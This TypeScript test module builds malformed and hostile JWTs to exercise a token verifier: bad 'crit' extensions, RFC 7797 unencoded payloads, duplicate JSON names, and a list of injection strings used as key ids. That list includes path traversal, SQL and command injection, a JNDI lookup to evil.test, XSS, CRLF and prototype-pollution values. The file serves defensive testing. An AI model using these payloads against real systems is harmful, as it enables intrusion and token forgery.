import { part } from '../tokens.ts'
import { type Hostile, type HostileClass, noKeyId, unknownKey } from './hostile.ts'

/** Critical extensions that are not supported. Every token is signed by the right key. */
export const critical: HostileClass = ({ rsa, claims }) => {
  const crits: readonly (readonly [string, Readonly<Record<string, unknown>>])[] = [
    ['one that nobody knows', { crit: ['http://evil.test/x'], 'http://evil.test/x': true }],
    ['one that is not there', { crit: ['x'] }],
    ['an empty list', { crit: [] }],
    ['no list', { crit: 'exp' }],
    ['null', { crit: null }],
    ['an object', { crit: { exp: true } }],
    ['a number', { crit: 1 }],
    ['false', { crit: false }],
    ['a registered name', { crit: ['alg'] }],
    ['exp', { crit: ['exp'], exp: 1 }],
    ['one twice', { crit: ['x', 'x'], x: 1 }],
    ['a number in the list', { crit: [1] }],
    ['an empty name', { crit: [''], '': 1 }],
    ['crit itself', { crit: ['crit'] }],
    ['many', { crit: Array.from({ length: 500 }, (_, n) => `x${n}`) }],
  ]
  return crits.map(([what, more]) => ({ what, token: rsa.token(claims(), more) }))
}

/** Unencoded payloads, which parsers read in different ways (RFC 7797). */
export const unencoded: HostileClass = ({ rsa, ec, claims }) => {
  const raw = JSON.stringify(claims()).replaceAll('.', '')
  return [rsa, ec].flatMap((one): Hostile[] => [
    {
      what: `${one.kid}: b64 false and critical, payload raw`,
      token: one.sign(part({ alg: one.jwk.alg, kid: one.kid, b64: false, crit: ['b64'] }), raw),
    },
    {
      what: `${one.kid}: b64 false, payload raw`,
      token: one.sign(part({ alg: one.jwk.alg, kid: one.kid, b64: false }), raw),
    },
    { what: `${one.kid}: b64 false, payload encoded`, token: one.token(claims(), { b64: false }) },
    {
      what: `${one.kid}: b64 false and critical, payload encoded`,
      token: one.token(claims(), { b64: false, crit: ['b64'] }),
    },
    { what: `${one.kid}: b64 true and critical`, token: one.token(claims(), { b64: true, crit: ['b64'] }) },
    { what: `${one.kid}: b64 as text`, token: one.token(claims(), { b64: 'false' }) },
    {
      what: `${one.kid}: payload raw without a word`,
      token: one.sign(part({ alg: one.jwk.alg, kid: one.kid }), raw),
    },
  ])
}

const names = [
  '../../../../../../dev/null',
  '/dev/null',
  '..\\..\\..\\windows\\win.ini',
  'file:///dev/null',
  '/proc/self/environ',
  'keys/../rsa',
  './rsa',
  'rsa/',
  '/rsa',
  'rsa/../rsa',
  "' OR '1'='1",
  "x' UNION SELECT 'secret' --",
  '1; DROP TABLE keys',
  '$(id)',
  '`id`',
  '|id',
  ';id',
  '&& id',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '${7*7}',
  '<script>alert(1)</script>',
  'rsa\u0000',
  '\u0000rsa',
  'rsa\n',
  'rsa\r\nset-cookie: a=b',
  'rsa ',
  ' rsa',
  'RSA',
  'Rsa',
  'rs%61',
  'r\u200bsa',
  '\u0433sa',
  '\u202easr',
  'r\u0073a\u0301',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '',
  ' ',
  '*',
  '.*',
  'rs?',
  '[a-z]+',
  'null',
  'undefined',
  'NaN',
  '0',
  '-1',
  'true',
  '[]',
  '{}',
  '["rsa"]',
  'https://evil.test/keys',
  'http://127.0.0.1:1/',
  'rsa,ec',
  'rsa;ec',
  'a'.repeat(4_000),
  '😀',
  '%00',
  '\\u0072sa',
]

/** Key ids that are dangerous in paths, queries or commands. Signed by the right key. */
export const keyIds: HostileClass = ({ rsa, claims }) => [
  ...names.map((kid) => ({
    what: JSON.stringify(kid).slice(0, 60),
    token: rsa.token(claims(), { kid }),
    says: unknownKey,
  })),
  ...[1, 0, null, true, false, [], ['rsa'], {}, { rsa: true }, 1e300].map((kid) => ({
    what: `${JSON.stringify(kid)}, no text`,
    token: rsa.token(claims(), { kid }),
  })),
  { what: 'absent', token: rsa.token(claims(), { kid: undefined }), says: noKeyId },
]

/** Duplicate names: parsers take the first or the last. Signed by the right key. */
export const duplicates: HostileClass = ({ rsa, claims }) => {
  const good = JSON.stringify(claims())
  const head = `"alg":"RS256","kid":"${rsa.kid}"`
  const headers = [
    `{"alg":"none",${head}}`,
    `{${head},"alg":"none"}`,
    `{${head},"alg":"RS256"}`,
    `{"alg":"HS256",${head}}`,
    `{"kid":"other",${head}}`,
    `{${head},"kid":"other"}`,
    `{${head},"\\u006bid":"other"}`,
    `{${head},"\\u0061lg":"none"}`,
    `{${head},"typ":"JWT","typ":"at+jwt"}`,
    `{${head},"jwk":{"kty":"RSA","kty":"oct"}}`,
    `{${head},"x":1,"x":2}`,
  ]
  const payloads = [
    ['exp', '1'],
    ['exp', '99999999999'],
    ['sub', '"root"'],
    ['iss', '"https://evil.test"'],
    ['aud', '"other"'],
    ['aud', '["api"]'],
    ['nbf', '0'],
    ['iat', '0'],
    ['roles', '["admin"]'],
    ['jti', '"a"'],
    ['s\\u0075b', '"root"'],
    ['\\u0065\\u0078\\u0070', '99999999999'],
    ['scope', '"admin"'],
  ].map(([name, value]) => {
    const twice = `,"${String(name)}":${String(value)}`
    return `${good.slice(0, -1)}${good.includes(`"${String(name)}"`) || String(name).includes('u00') ? '' : twice}${twice}}`
  })
  const nested = [
    '{"a":{"b":1,"b":2}}',
    '{"a":[{"b":1,"b":2}]}',
    '{"a":{"b":{"c":{"d":1,"d":1}}}}',
    '{"":1,"":2}',
    '{"__proto__":{"sub":"root"},"__proto__":{}}',
    '{"a":{"\\u0062":1,"b":2}}',
  ].map((text) => `${good.slice(0, -1)},${text.slice(1)}`)
  return [
    ...headers.map((header) => ({ what: `header ${header}`, token: rsa.sign(part(header), part(good)) })),
    ...[...payloads, ...nested].map((payload) => ({
      what: `payload …${payload.slice(good.length - 1)}`,
      token: rsa.sign(part(`{${head}}`), part(payload)),
    })),
  ]
}
